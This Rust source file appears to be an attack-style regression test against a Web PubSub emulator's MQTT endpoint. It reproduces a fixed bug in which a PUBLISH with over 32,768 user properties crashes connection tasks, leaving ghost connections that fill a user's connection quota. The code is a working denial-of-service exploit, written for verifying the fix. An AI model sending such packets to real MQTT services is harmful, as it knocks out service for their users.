//! `mqtt-user-props-panic` (issue 21, 3): a 5.0 PUBLISH to
//! `$webpubsub/server/events/e` with more than 32,768 distinct user
//! properties. Before the fix the emulator panicked turning them into
//! upstream headers (`HeaderMap::append`): the connection's task died
//! without cleanup, the connection stayed in its hub for good and no
//! `disconnected` was raised.
//!
//! `GHOSTS` connections of one user (`ghostuser`, no role, client ids
//! `ghost0`, …) each send one such PUBLISH (QoS 1) and note how the
//! emulator answered; the attacker then closes them all and, 3 s later,
//! counts those the emulator still holds (`HEAD …/connections/<id>`), the
//! `connected` / `disconnected` events its upstream got for them, and
//! whether a fresh connection of the same user is accepted (429: the
//! ghosts fill the user's 100 connections).
//!
//! Runs on hub `upstreamed`, whose event handler is the attacker's
//! upstream (`--upstream`, set by `attack.sh`; it answers user events 204).
//!
//! Knobs: `GHOSTS` (100), `USER_PROPERTIES` (33000).

use std::time::Duration;

use super::Tally;
use crate::knobs::knob;
use crate::mqtt::{self, Client, Connect, Next, DISCONNECT, PUBACK, PUBLISH, V5};
use crate::target::{Target, UPSTREAM_HUB};
use crate::upstream::Upstream;

pub async fn run(target: &Target) -> String {
    let ghosts: usize = knob("GHOSTS", 100);
    let properties: usize = knob("USER_PROPERTIES", 33_000);
    let Some(addr) = target.upstream else {
        return "needs --upstream (run it through attack.sh)".to_owned();
    };
    let upstream = match Upstream::start(addr, Duration::from_secs(120), false).await {
        Ok(upstream) => upstream,
        Err(e) => return format!("the upstream could not listen on {addr}: {e}"),
    };
    let target = target.on_hub(UPSTREAM_HUB);
    let mut props = Vec::with_capacity(properties * 11);
    for i in 0..properties {
        mqtt::user_property(&format!("p{i}"), "", &mut props);
    }
    let publish = mqtt::publish(V5, "$webpubsub/server/events/e", 1, 1, &props, b"x");
    eprintln!(
        "mqtt-user-props-panic: {ghosts} PUBLISHes of {properties} user properties ({} bytes each)",
        publish.len()
    );
    let token = target.mqtt_token(Some("ghostuser"), &[]);
    let mut outcomes = Tally::default();
    let mut ids = Vec::new();
    for i in 0..ghosts {
        let id = format!("ghost{i}");
        let mut client = match Client::connect(&target, &token, &Connect::new(V5, &id)).await {
            Ok((client, ack)) if ack.connack_code() == Some(0) => client,
            Ok((_, ack)) => {
                outcomes.add(format!(
                    "CONNACK {:#04x}",
                    ack.connack_code().unwrap_or(0xFF)
                ));
                continue;
            }
            Err(why) => {
                outcomes.add(format!("not connected ({why})"));
                continue;
            }
        };
        ids.push(id);
        if client.send(&publish).await.is_err() {
            outcomes.add("PUBLISH not sent");
            continue;
        }
        // What came back, in order, until the event's answer, the end of
        // the socket or 2 s of quiet.
        let mut seen = Vec::new();
        loop {
            match client.next(Duration::from_secs(2)).await {
                Next::Packet(p) if p.kind == PUBACK => {
                    seen.push(format!("PUBACK {:#04x}", p.reason_code()))
                }
                Next::Packet(p) if p.kind == DISCONNECT => {
                    seen.push(format!("DISCONNECT {:#04x}", p.reason_code()))
                }
                Next::Packet(p) if p.kind == PUBLISH => {
                    seen.push("PUBLISH (the event's answer)".to_owned());
                    break;
                }
                Next::Packet(p) => seen.push(format!("packet type {}", p.kind)),
                Next::Closed(how) => {
                    seen.push(format!("socket ended ({how})"));
                    break;
                }
                Next::Timeout => {
                    seen.push("still open".to_owned());
                    break;
                }
            }
        }
        let outcome = seen.join(" then ");
        outcomes.add(outcome);
        client.close().await;
    }
    tokio::time::sleep(Duration::from_secs(3)).await;
    let (held, failed) = target.count_existing(&ids).await;
    let connected: u64 = ids
        .iter()
        .map(|id| upstream.count_for("azure.webpubsub.sys.connected", id))
        .sum();
    let disconnected: u64 = ids
        .iter()
        .map(|id| upstream.count_for("azure.webpubsub.sys.disconnected", id))
        .sum();
    let fresh = match Client::connect(&target, &token, &Connect::new(V5, "ghostfresh")).await {
        Ok((client, ack)) => {
            client.close().await;
            format!("CONNACK {:#04x}", ack.connack_code().unwrap_or(0xFF))
        }
        Err(why) => format!("refused ({why})"),
    };
    upstream.stop();
    format!(
        "{ghosts} PUBLISHes of {properties} user properties, answers: {outcomes}; 3 s after the \
         attacker closed them, {held} of {} connections still in the hub{}; upstream: {connected} \
         connected, {disconnected} disconnected; a fresh connection of the same user: {fresh}; \
         emulator {}",
        ids.len(),
        if failed > 0 {
            format!(" ({failed} checks failed)")
        } else {
            String::new()
        },
        target.rss_text()
    )
}
